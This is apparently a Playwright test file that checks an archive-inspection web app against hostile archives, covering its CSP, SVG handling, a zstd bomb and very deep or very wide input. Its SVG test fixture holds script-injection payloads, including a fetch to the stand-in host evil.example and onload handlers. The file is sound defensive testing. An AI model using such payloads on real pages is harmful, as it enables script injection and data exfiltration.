/**
 * Hostile archives in Chromium: the built page's Content-Security-Policy holds (no eval, no inline
 * script, nothing fetched from elsewhere), an SVG from an image runs no script and loads nothing,
 * and the fuzzer's worst cases (a path 10,000 deep, a zstd bomb) open without freezing the tab.
 */
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import AxeBuilder from '@axe-core/playwright';
import { expect, test, type Browser, type Page } from '@playwright/test';
import { buildTar } from '../src/core/testing/tar-builder';
import { openImage } from './helpers';
import { markTrace, startTrace, stopTrace } from './main-thread-trace';
import { writeArchive, writeDeepPath, writeWideConfig, writeZstdBomb } from './hostile-archives';

const dir = mkdtempSync(join(tmpdir(), 'strata-e2e-hostile-'));

/** Every request and CSP violation of the page, and the longest main-thread task. */
async function watch(page: Page, origin: string): Promise<{ foreign: string[] }> {
  const foreign: string[] = [];
  page.on('request', (request) => {
    const url = request.url();
    if (!url.startsWith(origin) && !url.startsWith('blob:') && !url.startsWith('data:')) foreign.push(url);
  });
  await page.addInitScript(() => {
    const w = window as unknown as { violations: string[]; longestTask: number };
    w.violations = [];
    w.longestTask = 0;
    document.addEventListener('securitypolicyviolation', (e) => {
      w.violations.push(`${e.violatedDirective} ${e.blockedURI}`);
    });
    new PerformanceObserver((list) => {
      for (const entry of list.getEntries()) w.longestTask = Math.max(w.longestTask, entry.duration);
    }).observe({ type: 'longtask', buffered: true });
  });
  return { foreign };
}

const violations = (page: Page): Promise<string[]> =>
  page.evaluate(() => (window as unknown as { violations: string[] }).violations);
const longestTask = (page: Page): Promise<number> =>
  page.evaluate(() => (window as unknown as { longestTask: number }).longestTask);
// What is measured is opening the archive: the page's own start (the bundle's first run and render) is not.
// A task's wall time is what a user feels, but on a busy machine it is mostly the main thread waiting for a
// core: while the layer and hash workers take both of CI's cores, the page's tasks stretch. So the 200 ms
// aim is held on each task's CPU time, from a Chromium trace, which a busy machine does not stretch, at half
// the aim; the wall time keeps a freeze guard. Measured (bench/README.md, "The main thread while loading"):
// at most 63 ms of CPU per task in these cases, and at most 230 ms of wall time with a load average of 20.
const CPU_BOUND_MS = 100;
const FREEZE_MS = 300;

/** From here on: long tasks counted afresh and a trace of the main thread taken. */
async function fromHere(page: Page, browser: Browser): Promise<void> {
  await page.evaluate(() => ((window as unknown as { longestTask: number }).longestTask = 0));
  await startTrace(browser, page);
  await markTrace(page, 'bench:from');
}

/** Neither the longest task's wall time nor any task's CPU time since `fromHere` passed its bound. */
async function expectNoFreeze(page: Page, browser: Browser, cpuBoundMs = CPU_BOUND_MS): Promise<void> {
  await markTrace(page, 'bench:to');
  const [cpu] = await stopTrace(browser, [['bench:from', 'bench:to']]);
  expect(cpu?.maxCpuMs).toBeLessThan(cpuBoundMs);
  expect(await longestTask(page)).toBeLessThan(FREEZE_MS);
}

test('the built page forbids eval and inline script, and the app runs within its policy', async ({
  page,
  baseURL,
}) => {
  const { foreign } = await watch(page, baseURL!);
  await page.goto('/');
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(policy).toContain("script-src 'self' 'wasm-unsafe-eval'");
  expect(await page.evaluate(() => document.querySelectorAll('script:not([src])').length)).toBe(0);
  // A script element added with inline text does not run (DevTools' own evaluation is exempt from
  // the policy, so eval is tested through a script the page would run).
  const ran = await page.evaluate(async () => {
    const script = document.createElement('script');
    script.textContent = 'window.inlineRan = eval("1 + 1")';
    document.head.append(script);
    await new Promise((resolve) => setTimeout(resolve, 100));
    return (window as unknown as { inlineRan?: number }).inlineRan;
  });
  expect(ran).toBeUndefined();
  // Reported once per policy: the page's meta tag and the server's header.
  const injected = await violations(page);
  expect(injected.length).toBeGreaterThan(0);
  expect(new Set(injected)).toEqual(new Set(['script-src-elem inline']));
  await page.getByRole('button', { name: 'Open the sample' }).click();
  await expect(page.locator('body')).toHaveAttribute('data-app-state', 'ready', { timeout: 60_000 });
  await page.getByRole('tab', { name: 'Files' }).click();
  await expect(page.getByRole('tree', { name: 'Files' })).toBeVisible();
  await page.getByRole('tab', { name: 'Packages' }).click();
  await expect(page.getByRole('region', { name: 'Packages' })).toContainText('49 dpkg packages', {
    timeout: 60_000,
  });
  await page.getByRole('tab', { name: 'Linkage' }).click();
  await expect(page.getByTestId('linkage-picture')).toBeVisible({ timeout: 60_000 });
  // The injected script's violations are the only ones.
  expect(await violations(page)).toEqual(injected);
  expect(foreign).toEqual([]);
});

test('an SVG from an image is shown as a picture that runs no script and loads nothing', async ({
  page,
  baseURL,
}) => {
  const { foreign } = await watch(page, baseURL!);
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40">
<script>top.pwned = 1; fetch('http://evil.example/script')</script>
<image href="http://evil.example/picture.png" width="10" height="10"/>
<rect width="40" height="40" fill="red" onload="top.pwned = 2"/></svg>`;
  const path = writeArchive(dir, 'svg.tar', [
    buildTar([
      { name: 'evil.svg', data: svg },
      { name: 'evil.html', data: `<script>top.pwned=3</script>` },
    ]),
  ]);
  await page.goto('/');
  await openImage(page, path);
  await page.getByRole('tab', { name: 'Files' }).click();
  await page.getByLabel('Search paths').fill('evil.svg');
  await page
    .getByRole('list', { name: 'Search results' })
    .getByRole('button', { name: /evil\.svg/ })
    .click();
  const picture = page.getByLabel('File contents').locator('img');
  await expect(picture).toBeVisible();
  expect(await picture.getAttribute('src')).toMatch(/^blob:/);
  await page.getByLabel('Search paths').fill('evil.html');
  await page
    .getByRole('list', { name: 'Search results' })
    .getByRole('button', { name: /evil\.html/ })
    .click();
  await expect(page.getByLabel('File contents')).toContainText('<script>top.pwned=3</script>');
  expect(await page.evaluate(() => (window as unknown as { pwned?: number }).pwned)).toBeUndefined();
  expect(foreign).toEqual([]);
});

test('a path nested 10,000 directories deep opens, and the tab never freezes', async ({
  page,
  baseURL,
  browser,
}) => {
  await watch(page, baseURL!);
  const path = writeDeepPath(dir);
  await page.goto('/');
  await fromHere(page, browser);
  await openImage(page, path);
  await page.getByRole('tab', { name: 'Files' }).click();
  const tree = page.getByRole('tree', { name: 'Files' });
  await expect(tree.locator('[role=treeitem][data-path="/d"]')).toBeVisible();
  await tree.locator('[role=treeitem][data-path="/d"]').click();
  await expect(tree.locator('[role=treeitem][data-path="/d/d"]')).toBeVisible();
  await expectNoFreeze(page, browser);
});

test('a zstd bomb is stopped with a sentence; the other layer stays usable', async ({
  page,
  baseURL,
  browser,
}) => {
  await watch(page, baseURL!);
  // 2 GiB of zeros from 64 KiB: past the 5,000:1 limit once 1 GiB is decoded.
  const path = writeZstdBomb(dir);
  await page.goto('/');
  await fromHere(page, browser);
  await openImage(page, path);
  const bombRow = page.getByRole('row', { name: /\bL1\b/ });
  await expect(bombRow).toContainText('failed', { timeout: 120_000 });
  await bombRow.click();
  await expect(page.getByText(/a decompression bomb, not read further/)).toBeVisible();
  await page.getByRole('tab', { name: 'Files' }).click();
  await page.getByRole('navigation', { name: 'Layer' }).getByRole('button', { name: /^L0/ }).click();
  await expect(page.getByRole('tree', { name: 'Files' }).locator('[data-path="/ok.txt"]')).toBeVisible();
  await expectNoFreeze(page, browser);
});

test('a config of 20,000 Env entries and 20,000 labels opens without freezing the tab, and shows them all', async ({
  page,
  baseURL,
  browser,
}) => {
  await watch(page, baseURL!);
  const path = writeWideConfig(dir);
  await page.goto('/');
  // Only what opening the archive costs (the page's own start is measured by the tests above).
  await expect(page.getByRole('button', { name: 'Open the sample' })).toBeVisible();
  await fromHere(page, browser);
  await openImage(page, path);
  const panel = page.getByRole('region', { name: 'Image' });
  await expect(panel).toContainText('VAR_99=');
  await expect(panel).not.toContainText('VAR_100=');
  await expect(panel.getByText('Showing 100 of 20,000')).toHaveCount(2);
  await expectNoFreeze(page, browser);

  // The rest come from the worker a few hundred at a time into a virtual list: no task over 50 ms of CPU.
  await fromHere(page, browser);
  const labels = panel.locator('dt:text-is("Labels") + dd');
  await labels.getByRole('button', { name: 'Show 500 more' }).click();
  await expect(labels.getByText('Showing 600 of 20,000')).toBeVisible();
  const env = panel.locator('dt:text-is("Env") + dd');
  await env.getByRole('button', { name: 'Show all 20,000' }).focus();
  await page.keyboard.press('Enter');
  // Once all are shown the buttons go and the keyboard is on the list, which scrolls to its end.
  const list = env.getByRole('group', { name: 'Env' });
  await expect(list).toBeFocused({ timeout: 60_000 });
  await expect(env.getByRole('button')).toHaveCount(0);
  await page.keyboard.press('End');
  await expect(list.getByText(/^VAR_19999=x+$/)).toBeVisible();
  await expect(list.getByRole('listitem').last()).toHaveAttribute('aria-setsize', '20000');
  await expectNoFreeze(page, browser, 50);
  const axe = await new AxeBuilder({ page })
    .withTags(['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa', 'best-practice'])
    .include('section[aria-label="Image"]')
    .analyze();
  expect(axe.violations.map((v) => `${v.id}: ${v.help}`)).toEqual([]);
});
